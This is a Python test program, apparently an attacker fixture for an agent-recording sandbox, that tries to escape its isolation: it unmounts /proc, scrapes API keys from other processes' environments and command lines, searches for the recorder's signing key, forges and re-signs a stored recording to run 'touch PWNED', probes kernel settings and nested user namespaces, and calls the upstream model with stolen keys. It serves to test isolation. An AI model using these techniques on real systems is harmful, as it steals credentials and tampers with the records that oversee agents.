"""A hostile recorded program that tries to undo its isolation, as an attacker would.

    python attacker.py --upstream URL [--victim RECORDING_DIR]

It unmounts /proc (to see the host's processes), reads every process's environment and
command line for an API key, looks for the recorder's signing key in the config directory
(directly, and through other processes' /proc/PID/root), lists its own variables that hold a
key, checks whether it may write kernel settings (without writing), tries a nested user
namespace to regain privileges, and, with a key found, calls the upstream model directly. With
the signing key it re-signs `--victim`'s command as `touch PWNED` (what `replay` would then run
unasked; without the key it rewrites the command anyway). Last it makes one honest call through the proxy. Every finding is printed.
"""

import argparse
import ctypes
import hashlib
import hmac
import json
import os
import re
import socket
import subprocess
import urllib.error
import urllib.request
from pathlib import Path

from openai import OpenAI

# The shape of the tests' key: a real attacker would take any key, this one never touches
# the keys of other processes on a shared machine.
KEY_PATTERN = re.compile(r"sk-live-[A-Za-z0-9-]{16,}")
SIGNING_KEY = "recording-signing.key"


def umount_proc() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.umount2(b"/proc", 2) == 0:  # MNT_DETACH
        return "ok"
    return os.strerror(ctypes.get_errno())


def pids() -> list[str]:
    return sorted(p.name for p in Path("/proc").iterdir() if p.name.isdigit())


def hunt_keys() -> dict[str, str]:
    """Every key-looking value in any readable /proc/PID/environ or cmdline, by where found."""
    found = {}
    for pid in pids():
        for part in ("environ", "cmdline"):
            try:
                raw = Path(f"/proc/{pid}/{part}").read_bytes().decode(errors="replace")
            except OSError:
                continue
            for key in KEY_PATTERN.findall(raw):
                found[key] = f"/proc/{pid}/{part}"
    return found


def config_dirs() -> list[Path]:
    home = Path(os.environ.get("HOME", "/root"))
    named = os.environ.get("AGENTRACER_CONFIG_DIR")
    dirs = [Path(named)] if named else []
    return [*dirs, home / ".config" / "agentracer"]


def read_signing_key() -> tuple[bytes | None, str]:
    places = [d / SIGNING_KEY for d in config_dirs()]
    places += [Path(f"/proc/{pid}/root{d}/{SIGNING_KEY}") for pid in pids() for d in config_dirs()]
    reasons = set()
    for place in places:
        try:
            text = place.read_text().strip()
        except OSError as error:
            reasons.add(f"{place.name if place.parent.name != 'root' else place}: {error.strerror}")
            continue
        try:
            return bytes.fromhex(text), str(place)
        except ValueError:
            reasons.add(f"{place}: not a key ({len(text)} characters)")
    return None, "; ".join(sorted(reasons))[:300]


def forge(victim: Path, key: bytes | None) -> None:
    """Rewrite the victim recording's command as `touch PWNED`, re-signed when the signing key
    was found (replay.signing's payload), else keeping its old signature."""
    data = json.loads((victim / "recording.json").read_text())
    data["command"] = ["touch", str(victim.resolve().parent / "PWNED")]
    if key is not None:
        signed = {k: data.get(k) for k in ("id", "created", "command", "check", "cwd")}
        signed["host"] = socket.gethostname()
        payload = json.dumps(signed, sort_keys=True, ensure_ascii=False).encode()
        data["signature"] = hmac.new(key, payload, hashlib.sha256).hexdigest()
    (victim / "recording.json").write_text(json.dumps(data))
    how = "re-signed" if key is not None else "old signature kept"
    print(f"rewrote {victim}: now runs {data['command']} ({how})")


def may_write(path: str) -> str:
    try:
        os.close(os.open(path, os.O_WRONLY))  # opened, never written
        return "WRITABLE"
    except OSError as error:
        return error.strerror


def nested_namespace() -> str:
    done = subprocess.run(
        ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
         "umount -l /proc && ls /proc | grep -c '^[0-9]'"],
        capture_output=True, text=True, timeout=30, check=False,
    )  # fmt: skip
    said = (done.stdout + done.stderr).strip().replace("\n", " ")
    return f"exit {done.returncode}: {said}"[:200]


def direct_call(upstream: str, key: str) -> str:
    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "free ride"}]})
    request = urllib.request.Request(
        f"{upstream}/chat/completions", data=body.encode(), method="POST",
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {key}"},
    )  # fmt: skip
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return str(response.status)
    except urllib.error.HTTPError as error:
        return str(error.code)
    except OSError as error:
        return f"unreachable ({error})"


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--upstream", required=True)
    parser.add_argument("--victim", type=Path)
    args = parser.parse_args()
    print(f"uid {os.getuid()}, processes visible: {len(pids())}")
    print(f"umount /proc: {umount_proc()}; processes visible now: {len(pids())}")
    keys = hunt_keys()
    for key, where in keys.items():
        print(f"found key in {where}: {key}")
    for name, value in os.environ.items():
        if KEY_PATTERN.search(value):
            print(f"found key in my variable {name}: {value}")
            keys[KEY_PATTERN.search(value).group()] = f"${name}"
    signing, where = read_signing_key()
    print(f"signing key: {'READ from ' + where if signing else 'not readable (' + where + ')'}")
    if args.victim:
        forge(args.victim, signing)
    for path in ("/proc/sys/kernel/core_pattern", "/sys/kernel/mm/transparent_hugepage/enabled"):
        print(f"open {path} for writing: {may_write(path)}")
    print(f"nested user namespace, umount /proc: {nested_namespace()}")
    for key in keys:
        print(f"direct upstream call with {key[:12]}...: {direct_call(args.upstream, key)}")
    reply = OpenAI().chat.completions.create(
        model="m", messages=[{"role": "system", "content": "You are the attacker."},
                             {"role": "user", "content": "hello"}],
    )  # fmt: skip
    print("honest call:", reply.choices[0].message.content)


if __name__ == "__main__":
    main()
